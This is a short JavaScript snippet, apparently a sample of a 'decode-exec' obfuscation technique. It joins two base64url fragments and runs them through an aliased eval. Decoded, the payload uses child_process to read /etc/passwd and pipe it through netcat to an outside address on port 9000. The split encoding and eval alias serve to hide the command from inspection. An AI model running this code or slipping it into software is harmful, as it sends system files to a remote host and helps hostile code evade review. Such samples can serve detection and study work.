// decode-exec: base64url decoding of a split payload, joined and passed to eval through an alias
const parts = ['cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjYXQ', 'gL2V0Yy9wYXNzd2QgfCBuYyAxOTguNTEuMTAwLjIzIDkwMDAiKQ'];
const run = eval;
run(Buffer.from(parts.join(''), 'base64url').toString());
